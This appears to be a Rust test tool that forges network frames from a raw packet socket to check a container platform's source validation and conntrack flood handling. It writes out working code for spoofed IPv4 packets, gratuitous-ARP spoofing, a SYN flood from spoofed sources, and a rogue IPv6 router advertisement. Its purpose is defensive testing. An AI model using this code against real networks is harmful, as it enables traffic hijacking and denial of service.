//! Sends forged frames from a packet socket, as a hostile container or client would: the
//! source validation tests run it inside a container, the conntrack flood tests in the
//! external namespace. Each kind of frame is sent `--count` times, `--interval-ms` apart
//! (0: back to back), for at most `--secs`, and the tool exits; it never listens.
//! - `ipv4`: an ICMP echo request from `--src-ip` (and `--src-mac`) to `--dst-ip`;
//! - `arp`: a gratuitous ARP (RFC 5227 announcement) claiming `--src-ip` for `--src-mac`;
//! - `tcp-syn`: a TCP SYN to `--dst-ip`:`--dst-port`, each from the next of `--sources`
//!   addresses from `--src-ip` up (a SYN flood from spoofed sources);
//! - `router-advertisement`: an IPv6 router advertisement to all nodes, offering itself as
//!   default router and the prefix fd00:ad::/64 for SLAAC (`--src-ip` is not used).

use std::{
    ffi::CString,
    net::Ipv4Addr,
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use clap::{Parser, ValueEnum};
use etherparse::{Icmpv6Type, PacketBuilder};

#[derive(Clone, Copy, ValueEnum)]
enum Kind {
    Ipv4,
    Arp,
    TcpSyn,
    RouterAdvertisement,
}

#[derive(Parser)]
struct Cli {
    kind: Kind,
    #[arg(long, default_value = "eth0")]
    interface: String,
    /// The frame's source MAC; the interface's own when absent.
    #[arg(long, value_parser = parse_mac)]
    src_mac: Option<[u8; 6]>,
    #[arg(long)]
    src_ip: Ipv4Addr,
    #[arg(long, default_value = "255.255.255.255")]
    dst_ip: Ipv4Addr,
    /// The frame's destination MAC (ipv4 only): the gateway's or the victim's.
    #[arg(long, value_parser = parse_mac, default_value = "ff:ff:ff:ff:ff:ff")]
    dst_mac: [u8; 6],
    /// The SYNs' destination port (tcp-syn only).
    #[arg(long, default_value_t = 80)]
    dst_port: u16,
    /// Source addresses to cycle through, from `--src-ip` up (tcp-syn only).
    #[arg(long, default_value_t = 1)]
    sources: u32,
    #[arg(long, default_value_t = 10)]
    count: u32,
    #[arg(long, default_value_t = 50)]
    interval_ms: u64,
    /// Stops after this long even if frames are left to send.
    #[arg(long, default_value_t = 30.0)]
    secs: f64,
}

fn parse_mac(text: &str) -> Result<[u8; 6], String> {
    let bytes: Vec<u8> = text
        .split(':')
        .map(|b| u8::from_str_radix(b, 16).map_err(|e| format!("{text}: {e}")))
        .collect::<Result<_, _>>()?;
    bytes.try_into().map_err(|_| format!("{text}: a MAC has 6 bytes"))
}

/// The interface's index and MAC, asked of the kernel in the caller's namespace (sysfs
/// would show the namespace it was mounted in, the host's).
fn interface(fd: i32, name: &str) -> Result<(i32, [u8; 6])> {
    let cname = CString::new(name)?;
    // SAFETY: if_nametoindex reads a NUL-terminated string.
    let index = unsafe { libc::if_nametoindex(cname.as_ptr()) };
    if index == 0 {
        bail!("no interface {name}");
    }
    // SAFETY: ifreq is plain data; zero is valid for every field.
    let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
    for (slot, byte) in request.ifr_name.iter_mut().zip(cname.as_bytes()) {
        *slot = *byte as libc::c_char;
    }
    // SAFETY: SIOCGIFHWADDR fills the ifreq we pass.
    if unsafe { libc::ioctl(fd, libc::SIOCGIFHWADDR, &mut request) } != 0 {
        return Err(std::io::Error::last_os_error()).with_context(|| format!("reading {name}'s MAC"));
    }
    // SAFETY: the kernel filled the hardware address member of the union.
    let hardware = unsafe { request.ifr_ifru.ifru_hwaddr.sa_data };
    let mut mac = [0u8; 6];
    for (byte, value) in mac.iter_mut().zip(hardware) {
        *byte = value as u8;
    }
    Ok((index as i32, mac))
}

/// The `i`th frame to send.
fn frame(cli: &Cli, own_mac: [u8; 6], i: u32) -> Vec<u8> {
    let src_mac = cli.src_mac.unwrap_or(own_mac);
    let mut frame = vec![];
    match cli.kind {
        Kind::Ipv4 => {
            PacketBuilder::ethernet2(src_mac, cli.dst_mac)
                .ipv4(cli.src_ip.octets(), cli.dst_ip.octets(), 64)
                .icmpv4_echo_request(0x7a7a, 1)
                .write(&mut frame, b"forged")
                .expect("writing to a Vec");
        }
        Kind::Arp => {
            frame.extend_from_slice(&[0xff; 6]);
            frame.extend_from_slice(&src_mac);
            // ARP, Ethernet/IPv4, request; sender and target both the claimed address.
            frame.extend_from_slice(&[0x08, 0x06, 0, 1, 8, 0, 6, 4, 0, 1]);
            frame.extend_from_slice(&src_mac);
            frame.extend_from_slice(&cli.src_ip.octets());
            frame.extend_from_slice(&[0; 6]);
            frame.extend_from_slice(&cli.src_ip.octets());
        }
        Kind::TcpSyn => {
            let src = Ipv4Addr::from(u32::from(cli.src_ip).wrapping_add(i % cli.sources.max(1)));
            // Each source a port of its own too, and a sequence number no one can predict.
            let src_port = 1024 + (i % 64_000) as u16;
            PacketBuilder::ethernet2(src_mac, cli.dst_mac)
                .ipv4(src.octets(), cli.dst_ip.octets(), 64)
                .tcp(src_port, cli.dst_port, rand::random(), 64_240)
                .syn()
                .write(&mut frame, &[])
                .expect("writing to a Vec");
        }
        Kind::RouterAdvertisement => {
            let mut link_local = [0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
            link_local[10..].copy_from_slice(&src_mac);
            let all_nodes = [0xff, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
            // Hop limit 64, no flags, router lifetime 1,800 s (RFC 4861 4.2).
            let header = Icmpv6Type::Unknown { type_u8: 134, code_u8: 0, bytes5to8: [64, 0, 0x07, 0x08] };
            // Reachable time and retransmission timer unset, then a prefix information
            // option: fd00:ad::/64, on-link and autonomous, valid for an hour.
            let mut body = vec![0; 8];
            body.extend([3, 4, 64, 0xc0]);
            body.extend(3600u32.to_be_bytes());
            body.extend(3600u32.to_be_bytes());
            body.extend([0; 4]);
            body.extend([0xfd, 0, 0, 0xad, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
            PacketBuilder::ethernet2(src_mac, [0x33, 0x33, 0, 0, 0, 1])
                .ipv6(link_local, all_nodes, 255)
                .icmpv6(header)
                .write(&mut frame, &body)
                .expect("writing to a Vec");
        }
    }
    frame
}

fn main() -> Result<()> {
    let cli = Cli::parse();
    // SAFETY: plain socket(2); checked below.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("opening a packet socket");
    }
    let (index, own_mac) = interface(fd, &cli.interface)?;
    // SAFETY: sockaddr_ll is plain data; zero is valid for every field we leave unset.
    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    to.sll_family = libc::AF_PACKET as u16;
    to.sll_ifindex = index;
    to.sll_halen = 6;
    let started = Instant::now();
    let deadline = started + Duration::from_secs_f64(cli.secs);
    let mut sent_frames = 0u32;
    for i in 0..cli.count {
        if Instant::now() >= deadline {
            break;
        }
        if i > 0 && cli.interval_ms > 0 {
            thread::sleep(Duration::from_millis(cli.interval_ms));
        }
        let frame = frame(&cli, own_mac, i);
        to.sll_addr[..6].copy_from_slice(&frame[..6]);
        // SAFETY: sendto reads `frame` and `to` within the lengths given.
        let sent = unsafe {
            libc::sendto(
                fd,
                frame.as_ptr().cast(),
                frame.len(),
                0,
                (&raw const to).cast(),
                size_of::<libc::sockaddr_ll>() as u32,
            )
        };
        if sent < 0 {
            return Err(std::io::Error::last_os_error()).context("sending a frame");
        }
        sent_frames += 1;
    }
    // SAFETY: the descriptor is ours and closed once.
    unsafe { libc::close(fd) };
    println!("{{\"sent\": {sent_frames}, \"secs\": {}}}", started.elapsed().as_secs_f64());
    Ok(())
}
